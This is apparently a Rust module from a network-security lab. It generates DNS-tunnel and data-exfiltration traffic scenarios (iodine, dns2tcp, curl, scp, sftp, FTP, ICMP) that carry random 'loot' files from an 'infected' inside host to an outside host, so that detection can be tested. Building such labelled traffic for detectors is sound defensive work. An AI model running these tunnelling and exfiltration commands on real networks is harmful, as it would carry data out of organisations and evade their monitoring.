//! Data where it does not belong: tunnels through DNS, and data carried out of the LAN in bulk.

use super::{Needs, PlanFn};
use crate::lab::{
    filter::{Filter, Term},
    plan::{Ends, Plan, Proof, Ready, Scenario, Service, Step, Wish},
    rng::Rng,
    servers::{self, HOST_KEYS, PYTHON, shell},
    world::{Shape, World},
};

const IODINE: Needs = &[("iodine", "iodine"), ("iodined", "iodine"), ("dnsmasq", "dnsmasq-base")];
const DNS2TCP: Needs = &[("dns2tcpc", "dns2tcp"), ("dns2tcpd", "dns2tcp")];
const DNSMASQ: Needs = &[("dnsmasq", "dnsmasq-base")];
const CURL: Needs = &[("curl", "curl"), ("openssl", "openssl")];
const SSH: Needs = &[("sshd", "openssh-server"), ("sshpass", "sshpass")];
const FTP: Needs = &[("curl", "curl")];

pub(super) static SCENARIOS: &[Scenario] = &[
    scenario(
        "tunnel-iodine",
        "DNS_TUNNEL",
        "iodine, direct or by a resolver, with pings and a download in it",
        IODINE,
        iodine,
    ),
    scenario("tunnel-dns2tcp", "DNS_TUNNEL", "dns2tcp with a download in it", DNS2TCP, dns2tcp),
    scenario("tunnel-txt", "DNS_TUNNEL", "script: base32 or hex in names; TXT, CNAME, NULL, A", DNSMASQ, generic),
    scenario("exfil-https", "EXFILTRATION", "curl: bulk upload over HTTP and HTTPS", CURL, upload),
    scenario("exfil-ssh", "EXFILTRATION", "scp, sftp, tar over ssh", SSH, ssh),
    scenario("exfil-ftp", "EXFILTRATION", "curl: upload over FTP", FTP, ftp),
    scenario("exfil-icmp", "EXFILTRATION", "script: data in echo requests", &[], icmp),
];

const fn scenario(
    name: &'static str,
    family: &'static str,
    tools: &'static str,
    needs: Needs,
    plan: PlanFn,
) -> Scenario {
    Scenario { name, family, tools, needs, shape: Shape::SMALL, plan }
}

/// Who asks whom: the tunnel's end itself, or a resolver that passes questions on.
fn resolver(plan: &mut Plan, world: &World, rng: &mut Rng, domain: &str) -> String {
    let end = &world.outside[0];
    if rng.once_in(2) {
        return end.v4.to_string();
    }
    let site = &world.sites[2];
    let line = format!(
        "dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --pid-file= --user=root --cache-size=0 --dns-forward-max=400 --server=/{domain}/{}",
        end.v4
    );
    plan.services.push(Service::new(&site.name, &line, Ready::Udp(53)));
    plan.environment.push_str("-resolver");
    site.v4.to_string()
}

/// All that the infected machine asks by DNS is the tunnel's.
fn tunnelled(plan: &mut Plan, world: &World) {
    plan.filter = Filter::all_of(&[Term::Src(world.inside[0].v4.into()), Term::Udp, Term::DstPort(53)]);
    plan.proof = Proof { flows: 1, sent: 1, answered: 1 };
}

fn iodine(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("tunnel-iodine", "iodine");
    let domain = format!("{}.{}", rng.pick(&["t", "tun", "x1", "dns"]), world.domain);
    let ask = resolver(&mut plan, world, rng, &domain);
    let word = rng.word(8);
    let end = &world.outside[0].name;
    let line = format!("iodined -f -c -P {word} -d dns1 10.199.53.1/27 {domain}");
    plan.services.push(Service::new(end, &line, Ready::Udp(53)));
    plan.files.push(("tunnel/data.txt".to_owned(), "What must not leave the house.\n".repeat(9_000)));
    let line = format!("{PYTHON} -m http.server --directory {{dir}}/tunnel --bind 0.0.0.0 8053");
    plan.services.push(Service::new(end, &line, Ready::Tcp(8_053)));
    let kind = rng.pick(&["", "-T TXT", "-T NULL", "-T CNAME", "-T MX", "-T SRV"]);
    let lazy = rng.pick(&["-L1", "-L0"]);
    let line = format!(
        "sh {{lab}}/iodine.sh {} {} iodine -f -r -P {word} {kind} {lazy} -d dns0 {ask} {domain}",
        rng.range(20, 45),
        rng.pick(&["4k", "12k", "40k"])
    );
    plan.steps.push(Step::new(&world.inside[0].name, &line, rng.range(1_500, 5_000), 80_000, Ends::Anyhow));
    plan.subtype = format!("iodine {kind} {lazy}");
    tunnelled(&mut plan, world);
    plan
}

fn dns2tcp(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("tunnel-dns2tcp", "dns2tcp");
    let domain = format!("{}.{}", rng.pick(&["d", "z9", "cdn"]), world.domain);
    let ask = resolver(&mut plan, world, rng, &domain);
    let end = &world.outside[0].name;
    let word = rng.word(8);
    let config = format!(
        "listen = 0.0.0.0\nport = 53\nuser = root\nchroot = /run/sshd\ndomain = {domain}\nkey = {word}\nresources = web:127.0.0.1:8053\n"
    );
    plan.files.push(("dns2tcpd.conf".to_owned(), config));
    plan.files.push(("tunnel/data.txt".to_owned(), "What must not leave the house.\n".repeat(4_000)));
    let line = format!("{PYTHON} -m http.server --directory {{dir}}/tunnel --bind 127.0.0.1 8053");
    plan.services.push(Service::new(end, &line, Ready::Tcp(8_053)));
    plan.services.push(Service::new(end, "dns2tcpd -F -d 1 -f {dir}/dns2tcpd.conf", Ready::Udp(53)));
    let kind = rng.pick(&["TXT", "KEY"]);
    let line = format!(
        "sh {{lab}}/dns2tcp.sh {} {} dns2tcpc -c -k {word} -T {kind} -z {domain} -r web -l 8054 {ask}",
        rng.range(20, 45),
        rng.pick(&["2k", "10k"])
    );
    plan.steps.push(Step::new(&world.inside[0].name, &line, rng.range(1_500, 5_000), 80_000, Ends::Anyhow));
    plan.subtype = format!("dns2tcp {kind}");
    tunnelled(&mut plan, world);
    plan
}

fn generic(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("tunnel-script", "");
    let domain = format!("{}.{}", rng.pick(&["a", "up", "mail", "ns"]), world.domain);
    let ask = resolver(&mut plan, world, rng, &domain);
    let kind = rng.pick(&["TXT", "TXT", "CNAME", "NULL", "A", "AAAA"]);
    let code = rng.pick(&["base32", "hex", "base64"]);
    let line = format!("{PYTHON} {{lab}}/dns_tunnel.py end --domain {domain} --seed {}", rng.range(1, 99_999));
    plan.services.push(Service::new(&world.outside[0].name, &line, Ready::Udp(53)));
    let line = format!(
        "{PYTHON} {{lab}}/dns_tunnel.py start --ask {ask} --domain {domain} --kind {kind} --code {code} --label {} --count {} --pause-ms {} --poll {} --seed {}",
        rng.pick(&[20, 32, 48, 60]),
        rng.pick(&[60, 150, 400]),
        rng.pick(&[20, 80, 250]),
        rng.pick(&[0, 30, 70]),
        rng.range(1, 99_999)
    );
    plan.steps.push(Step::new(&world.inside[0].name, &line, rng.range(1_500, 5_000), 80_000, Ends::Well));
    plan.subtype = format!("script {kind} {code}");
    tunnelled(&mut plan, world);
    plan
}

/// What is carried out: a few megabytes in files, made on the infected machine.
fn loot(plan: &mut Plan, world: &World, rng: &mut Rng) -> u64 {
    let megabytes = rng.range(3, 14);
    let line = format!(
        "mkdir -p {{dir}}/loot && for n in 1 2 3; do head -c {}000 /dev/urandom >{{dir}}/loot/part$n; done",
        megabytes * 333
    );
    plan.services.push(Service { on: world.inside[0].name.clone(), words: shell(&line), ready: Ready::Ended });
    megabytes
}

fn carried(plan: &mut Plan, world: &World, rng: &mut Rng, words: Vec<String>) {
    let on = world.inside[0].name.clone();
    plan.steps.push(Step { on, words, at_ms: rng.range(1_500, 6_000), ms_max: 80_000, ends: Ends::Well });
    plan.filter = Filter::all_of(&[Term::Src(world.inside[0].v4.into()), Term::Dst(world.outside[0].v4.into())]);
    plan.proof = Proof { flows: 1, sent: 1, answered: 1 };
}

/// Bits a second that curl and scp may take, so that a run is no instant.
fn pace(rng: &mut Rng) -> &'static str {
    rng.pick(&["300k", "700k", "2m"])
}

fn upload(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let secure = rng.once_in(2);
    let mut plan = Plan::new(if secure { "exfil-https" } else { "exfil-http" }, "curl upload");
    loot(&mut plan, world, rng);
    let end = &world.outside[0];
    let (scheme, port) = if secure { ("https", 443) } else { ("http", rng.pick(&[80, 8_080])) };
    if secure {
        servers::certificate(&mut plan, &end.name, world);
    }
    let tls = if secure { "--tls {dir}/tls" } else { "" };
    plan.services.push(Service::new(
        &end.name,
        &format!("{PYTHON} {{lab}}/upload_server.py {port} {tls}"),
        Ready::Tcp(port),
    ));
    let how = rng.pick(&["-T", "-F file=@", "--data-binary @"]);
    let separator = if how == "-T" { " " } else { "" };
    let line = format!(
        "for n in 1 2 3; do curl -sS -k --limit-rate {} {how}{separator}{{dir}}/loot/part$n {scheme}://{}:{port}/up/$n -o /dev/null || exit 1; done",
        pace(rng),
        end.v4
    );
    carried(&mut plan, world, rng, shell(&line));
    plan
}

fn ssh(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("exfil-ssh", "");
    loot(&mut plan, world, rng);
    let end = &world.outside[0];
    let port = rng.pick(&[22, 2_222, 443]);
    servers::openssh(&mut plan, &end.name, port, HOST_KEYS, rng);
    let account = &world.accounts[0];
    let options = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no";
    let pass = format!("sshpass -p '{}'", account.password);
    let to = format!("{}@{}", account.user, end.v4);
    let kbits = rng.pick(&[2_400, 6_000, 16_000]);
    let (tool, line) = match rng.range(1, 3) {
        1 => ("scp", format!("{pass} scp -q {options} -l {kbits} -P {port} {{dir}}/loot/part* {to}:")),
        2 => ("sftp", format!("echo 'put {{dir}}/loot/part*' | {pass} sftp -q -l {kbits} {options} -P {port} {to}")),
        _ => ("tar over ssh", format!("tar -C {{dir}} -c loot | {pass} ssh {options} -p {port} {to} 'cat >archive'")),
    };
    tool.clone_into(&mut plan.subtype);
    carried(&mut plan, world, rng, shell(&line));
    plan
}

fn ftp(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("exfil-ftp", "curl ftp upload");
    loot(&mut plan, world, rng);
    let end = &world.outside[0];
    servers::pyftpdlib(&mut plan, &end.name, 21, world);
    let account = &world.accounts[0];
    let line = format!(
        "for n in 1 2 3; do curl -sS --limit-rate {} -T {{dir}}/loot/part$n --user '{}:{}' ftp://{}/part$n || exit 1; done",
        pace(rng),
        account.user,
        account.password,
        end.v4
    );
    carried(&mut plan, world, rng, shell(&line));
    plan
}

fn icmp(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("exfil-icmp", "script ICMP");
    let line = format!(
        "{PYTHON} {{lab}}/icmp_carry.py --host {} --size {} --count {} --pause-ms {} --seed {}",
        world.outside[0].v4,
        rng.pick(&[48, 200, 800, 1_300]),
        rng.pick(&[120, 400, 900]),
        rng.pick(&[10, 30, 60]),
        rng.range(1, 99_999)
    );
    carried(&mut plan, world, rng, line.split(' ').map(str::to_owned).collect());
    plan
}
